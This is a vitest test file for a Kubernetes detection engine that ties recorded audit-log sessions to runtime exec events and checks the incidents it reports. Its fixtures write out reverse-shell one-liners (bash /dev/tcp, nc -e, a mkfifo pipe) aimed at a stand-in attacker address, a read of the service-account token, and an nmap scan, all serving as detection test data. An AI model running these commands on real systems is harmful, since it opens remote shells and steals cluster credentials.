import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { Incident, Signal } from '../../schemas/generated/types.ts'
import { DEFAULT_CORRELATE_SETTINGS } from '../../services/core/correlate/settings.ts'
import { loadRuleSet } from '../../services/core/detect/load-rule-set.ts'
import { createHunt } from '../../services/core/hunt.ts'
import { readRuleFolder } from '../../services/platform/rule-files.ts'
import { RULES } from '../rules/rule-tests.ts'

const { rules, windows } = loadRuleSet(await readRuleFolder(RULES))
const NOW = 1_795_608_000_000_000

type Json = Record<string, unknown>

/** What a real API server logged. */
function recorded(file: string): readonly Json[] {
  const text = readFileSync(join(import.meta.dirname, '../fixtures/recorded-audit', file), 'utf8')
  return text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Json)
}

const POD = { namespace: 'shop', name: 'web-6758cff5f4-gf547', uid: '0d1f2a3b-0000-4000-8000-000000000001' }
const SHIM = { exec_id: 'shim', pid: 900, binary: '/usr/bin/containerd-shim-runc-v2', arguments: '-namespace k8s.io' }

/** An exec as Tetragon exports it, at `second` of 10:11. */
function execed(exec_id: string, second: number, binary: string, args: string, parent: Json = SHIM, container = 'web') {
  const time = `2026-11-24T10:11:${second.toFixed(6).padStart(9, '0')}Z`
  const process = {
    ...{ exec_id, pid: 1000 + Math.round(second * 10), uid: 0, cwd: '/', binary, arguments: args, start_time: time },
    ...{ pod: { ...POD, container: { id: `containerd://${container.padEnd(64, '7')}`, name: container } } },
    in_init_tree: false
  }
  return { process_exec: { process, parent }, node_name: 'node-1', time }
}

const SHELLS = [
  execed('e1', 33.7, '/bin/bash', '-c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"'),
  execed('e2', 34.4, '/bin/sh', '-c "nc -w 1 203.0.113.66 4444 -e /bin/sh"'),
  execed(
    'e3',
    35.1,
    '/bin/sh',
    '-c "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -w 1 203.0.113.66 4444 > /tmp/f"'
  )
]

function hunt(records: readonly Json[]): { readonly told: readonly Signal[]; readonly incidents: readonly Incident[] } {
  const engine = createHunt({
    ...{ rules, windows, correlate: DEFAULT_CORRELATE_SETTINGS },
    ...{ cluster: { id: 'c', name: 'prod' }, instance: 'node-1' }
  })
  for (const record of records) expect(engine.offer(record, NOW).rejected).toEqual([])
  const told = engine.correlated().filter(({ rule }) => rule.code === 'C01')
  return { told, incidents: engine.incidents(NOW) }
}

describe('execs that a real API server logged, with what a sensor saw of them', () => {
  const audit = recorded('A33-reverse-shell.ndjson')

  it('are matched by their commands, and the incident says who it was', () => {
    const { told, incidents } = hunt([...audit, ...SHELLS])
    expect(told).toHaveLength(3)
    for (const { title } of told)
      expect(title).toMatch(
        /^mallory \(203\.0\.113\.66\) opened a session in shop\/web-6758cff5f4-gf547, container web and ran \/bin\//
      )
    expect(told[0]?.evidence).toMatchObject({
      'session.actor': 'mallory',
      'session.groups': 'system:authenticated',
      'session.source_address': '203.0.113.66',
      'session.credential': expect.stringMatching(/^X509SHA256=78cbff9d/)
    })
    expect(incidents).toHaveLength(1)
    const [incident] = incidents
    expect(incident?.sources).toEqual(['audit', 'runtime'])
    expect(incident?.narrative).toContain(
      'mallory (203.0.113.66) opened a session in pod shop/web-6758cff5f4-gf547 and ran'
    )
    const seen = incident?.timeline.filter(({ source, code }) => source === 'runtime' && code !== 'C01') ?? []
    expect(seen.length).toBeGreaterThan(0)
    for (const { title } of seen) expect(title).toMatch(/^mallory \(203\.0\.113\.66\): /)
  })

  it('are the same when what the sensor saw comes first, and everything twice', () => {
    const ids = (records: readonly Json[]) => hunt(records).told.map(({ id, title }) => `${id} ${title}`)
    const all = [...audit, ...SHELLS]
    expect(ids([...all.toReversed(), ...all])).toEqual(ids(all))
  })

  it('belong to a process of a child of it, too', () => {
    const [shell] = SHELLS
    const read = execed(
      'e9',
      50,
      '/bin/cat',
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
      shell?.process_exec.process
    )
    const { told } = hunt([...audit, ...SHELLS, read])
    expect(told.some(({ title }) => title.includes('/bin/cat /var/run/secrets'))).toBe(true)
  })

  it('are nobody’s when they are in another container, eleven seconds late, or another command', () => {
    const others = [
      execed('e1', 33.7, '/bin/bash', '-c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"', SHIM, 'sidecar'),
      execed('e2', 47, '/bin/sh', '-c "nc -w 1 203.0.113.66 4444 -e /bin/sh"'),
      execed('e3', 34, '/bin/dash', '-c "nc -w 1 203.0.113.66 4444 -e /bin/dash"')
    ]
    expect(hunt([...audit, ...others]).told).toEqual([])
  })

  it('of a debugging container are whose who added it', () => {
    const scan = execed('e5', 57, '/usr/bin/nmap', '-sS 10.0.0.0/8', SHIM, 'debugger-1')
    const { told } = hunt([
      ...recorded('A38-debug-container.ndjson'),
      { ...scan, process_exec: { ...scan.process_exec, process: { ...scan.process_exec.process, in_init_tree: true } } }
    ])
    expect(told.map(({ title }) => title)).toEqual([
      'mallory (203.0.113.66) opened a session in shop/web-6758cff5f4-gf547, container debugger-1 and ran /usr/bin/nmap -sS 10.0.0.0/8'
    ])
  })
})
